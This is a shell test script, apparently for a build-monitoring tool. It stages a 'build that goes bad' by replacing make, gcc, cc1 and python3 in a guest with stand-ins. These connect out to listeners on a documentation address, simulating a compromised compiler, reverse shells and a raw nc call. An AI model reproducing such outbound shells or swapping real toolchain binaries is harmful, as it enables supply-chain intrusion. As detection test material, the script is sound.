#!/bin/sh
# build-tool: a build that goes bad. `make` (tool.c under the real tools' names and paths; what
# each one runs is in spawn/<name>, whom it connects to itself in connect/<name>) runs:
#  1. `sh -c 'gcc -O2 -c main.c -o main.o'`: gcc runs cc1; cc1 (a compromised compiler) connects
#     out to 203.0.113.7:4444 itself, then spawns a shell that connects out (netc, :4445);
#  2. `sh -c "python3 -c '...'"`: the shell execs a one-liner python3 (netc as /usr/bin/python3)
#     that connects to 203.0.113.7:4446;
#  3. `nc 203.0.113.7 4447` run by make directly (a network tool against a raw IP);
#  4. `sh -c "python3 -c '...'; true"`: the same one-liner as 2, as the shell's child (:4448).
# 203.0.113.7 is a documentation address on the guest's lo, where listeners wait.
set -x
/bin/mkdir -p /usr/lib/gcc/x86_64-linux-gnu/12 /work
/bin/cp /scenario/tool /usr/bin/make
/bin/cp /scenario/tool /usr/bin/gcc
/bin/cp /scenario/tool /usr/lib/gcc/x86_64-linux-gnu/12/cc1
/bin/cp /usr/local/bin/netc /usr/bin/python3
/bin/echo 'int main(void) { return 0; }' > /work/main.c

for p in 4444 4445 4446 4447 4448; do
	/usr/local/bin/netc listen 203.0.113.7 $p /tmp/l$p.ready ok &
done
for p in 4444 4445 4446 4447 4448; do
	i=0
	while [ ! -e /tmp/l$p.ready ] && [ $i -lt 100 ]; do /bin/usleep 50000; i=$((i + 1)); done
done

cd /work && /usr/bin/make -j2 all </dev/null
st=$?
wait
exit $st
